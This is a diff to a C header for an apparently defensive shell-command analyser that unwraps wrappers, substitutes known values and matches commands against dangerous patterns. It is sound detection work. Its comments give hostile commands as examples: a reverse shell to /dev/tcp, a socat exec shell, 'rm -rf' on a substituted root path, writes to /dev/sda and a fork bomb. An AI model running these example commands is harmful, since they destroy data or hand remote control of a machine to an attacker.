@@ -3,12 +3,25 @@
  * A command string is parsed as a POSIX/bash shell would read it (shell.h),
  * then every simple command is turned into one or more views: the command as
  * written and each unwrapped form of it (sudo/doas/env/command/builtin/exec/
- * nohup/setsid/nice/ionice/chrt/taskset/timeout/stdbuf/time/xargs/busybox
- * with their options peeled; eval and `sh|bash|zsh|dash|ksh -c BODY` parsed
- * recursively up to MOAT_CMD_MAX_DEPTH; find -exec/-execdir/-ok bodies).
+ * nohup/setsid/nice/ionice/chrt/taskset/timeout/stdbuf/time/xargs/parallel/
+ * busybox/toybox/strace/ltrace/valgrind/gdb --args/unshare/nsenter with their
+ * options peeled; eval and `sh|bash|zsh|dash|ksh -c BODY` parsed recursively
+ * up to MOAT_CMD_MAX_DEPTH; find -exec/-execdir/-ok bodies).
+ *
+ * Values known before running are substituted: literal assignments earlier
+ * in the same command ("a=/; rm -rf $a"), ${X:-default} defaults,
+ * $(echo ...) and $(printf ...) output, sh -c positional parameters, xargs
+ * and parallel fed by a literal, and the working directory after a cd to a
+ * known directory. Each substitution gives a view of its own
+ * (MOAT_VIEW_RESOLVED), so every check sees the values.
+ *
  * The analysis also reports findings that do not depend on configuration:
- * the unrecoverable-operation floor ("hardline:*") and shell writes into
- * startup and credential files ("startup-write:*").
+ * the unrecoverable-operation floor ("hardline:*"), shell writes into startup,
+ * persistence and credential files ("startup-write:*"), destructive commands
+ * whose target is unknown before running ("dynamic-target:*"), a downloaded
+ * file run later in the same command ("command:download-exec") and setuid
+ * modes ("command:setuid"). It lists the path operands of the commands so
+ * the policy can check them against the denied paths.
  *
  * Pure: no I/O. Linear in the input: no input makes it backtrack. */
 #ifndef MOAT_CORE_CMD_H
@@ -29,6 +42,9 @@
 #define MOAT_VIEW_SHELL_STDIN 4u  /* a shell (or interpreter) reading its script from stdin fed by a pipe, heredoc, herestring or <( ) */
 #define MOAT_VIEW_DYNAMIC_ARGS 8u /* some arguments are unknown (xargs input, expansions) */
 #define MOAT_VIEW_SUBST 16u	  /* runs inside $( ), backticks or <( ) */
+#define MOAT_VIEW_RESOLVED 32u	  /* the view it was derived from with values known before running
+				   * substituted (parent names that view) */
+#define MOAT_VIEW_VALUES 64u	  /* unknown words here have their known values in RESOLVED views */
 
 /* argv[argc] is NULL. A command made only of redirections ("> f") still has a
  * view (argc 0, prog and text "") so that its redirections belong to one. */
@@ -71,6 +87,22 @@ struct moat_cmd_finding {
 	size_t view;		/* the view it is about */
 };
 
+/* A word that names a file for some command: its operands (words that are
+ * not options, and the values of --opt=value), and the targets of file
+ * redirections; not the words of echo and printf, nor of views whose
+ * program is unknown. */
+#define MOAT_CMD_PATH_READ 1u  /* a redirection reading it */
+#define MOAT_CMD_PATH_WRITE 2u /* a redirection writing it */
+
+struct moat_cmd_path {
+	const char *text; /* as the command names it, values substituted */
+	const char *abs;  /* absolute and lexically normalised (home, or a directory a cd
+			   * moved to, applied); NULL: text is absolute, or relative to the
+			   * directory the command starts in (opts->cwd), not normalised */
+	size_t view;
+	unsigned flags;
+};
+
 struct moat_cmd_analysis {
 	struct moat_cmdview *views;
 	size_t nviews;
@@ -86,11 +118,16 @@ struct moat_cmd_analysis {
 	const char *home; /* opts->home without trailing slash, or NULL */
 	unsigned char prog_first[32]; /* a bit per first byte of the views' programs */
 	bool fed;		      /* some view has feeds_from >= 0 */
+	struct moat_cmd_path *paths;
+	size_t npaths;
 };
 
 struct moat_cmd_opts {
 	const char *home;	/* home directory for ~ and $HOME, may be NULL */
 	bool hardline;		/* check the unrecoverable-operation floor */
+	const char *cwd;	/* absolute working directory the command starts in, may be NULL */
+	bool normalized;	/* home and cwd are normalised absolute paths that outlive the
+				 * analysis: they are used as they are, not copied */
 };
 
 /* Parse and analyse. Unparseable input (unterminated quote, unbalanced
@@ -99,6 +136,12 @@ struct moat_cmd_opts {
 int moat_cmd_analyze(const char *src, size_t len, const struct moat_cmd_opts *opts,
 		     struct moat_cmd_analysis **ret, struct moat_error *err);
 struct moat_cmd_analysis *moat_cmd_analysis_free(struct moat_cmd_analysis *a);
+
+/* The name of the startup, persistence or credential file an absolute,
+ * normalised path is ("~/.bashrc", "~/.ssh/config", ".git/hooks",
+ * "/etc/profile.d/x.sh"), written to out; false when it is none. Writes to
+ * these ask, from the shell or a file tool alike. */
+bool moat_cmd_startup_name(const char *home, const char *path, char *out, size_t outsz);
 
 /* True for the names of POSIX-family shells (sh, bash, zsh, dash, ksh, ash, mksh, ...). */
 bool moat_cmd_is_shell(const char *prog);
@@ -112,7 +155,11 @@ bool moat_cmd_is_shell(const char *prog);
  *    ("dd if=").
  *  - "a | b": a view matching a feeds (directly or through more pipes) a
  *    view matching b; sh/bash/zsh/dash/ksh on the right match any shell.
+ *    A word ending in ':' matches as a case-insensitive prefix ("socat
+ *    exec:" matches "EXEC:'sh -i'").
  *  - "> /dev/sda": a redirection writing to that target.
+ *  - a single word "/dev/tcp" (or another path under /dev/): any file
+ *    redirection to it or below it ("bash -i >& /dev/tcp/h/p 0>&1").
  *  - the fork-bomb shape ":(){ :|:& };:" matches any function that pipes
  *    into itself in the background. */
 struct moat_cmdpat;
@@ -121,6 +168,15 @@ int moat_cmdpat_compile(const char *pattern, struct moat_cmdpat **ret, struct mo
 bool moat_cmdpat_match(const struct moat_cmdpat *p, const struct moat_cmd_analysis *a,
 		       size_t *ret_view);
 const char *moat_cmdpat_source(const struct moat_cmdpat *p);
+/* What an analysis needs for the pattern to match at all, so callers can
+ * skip it cheaply: a program starting with this byte (0-255, see
+ * moat_cmd_analysis.prog_first), a pipe (MOAT_CMDPAT_NEEDS_PIPE), a
+ * redirection (..._REDIR), a fork bomb (..._FORK), or nothing (..._ANY). */
+#define MOAT_CMDPAT_NEEDS_PIPE 256
+#define MOAT_CMDPAT_NEEDS_REDIR 257
+#define MOAT_CMDPAT_NEEDS_FORK 258
+#define MOAT_CMDPAT_NEEDS_ANY 259
+int moat_cmdpat_needs(const struct moat_cmdpat *p);
 struct moat_cmdpat *moat_cmdpat_free(struct moat_cmdpat *p);
 
 #endif
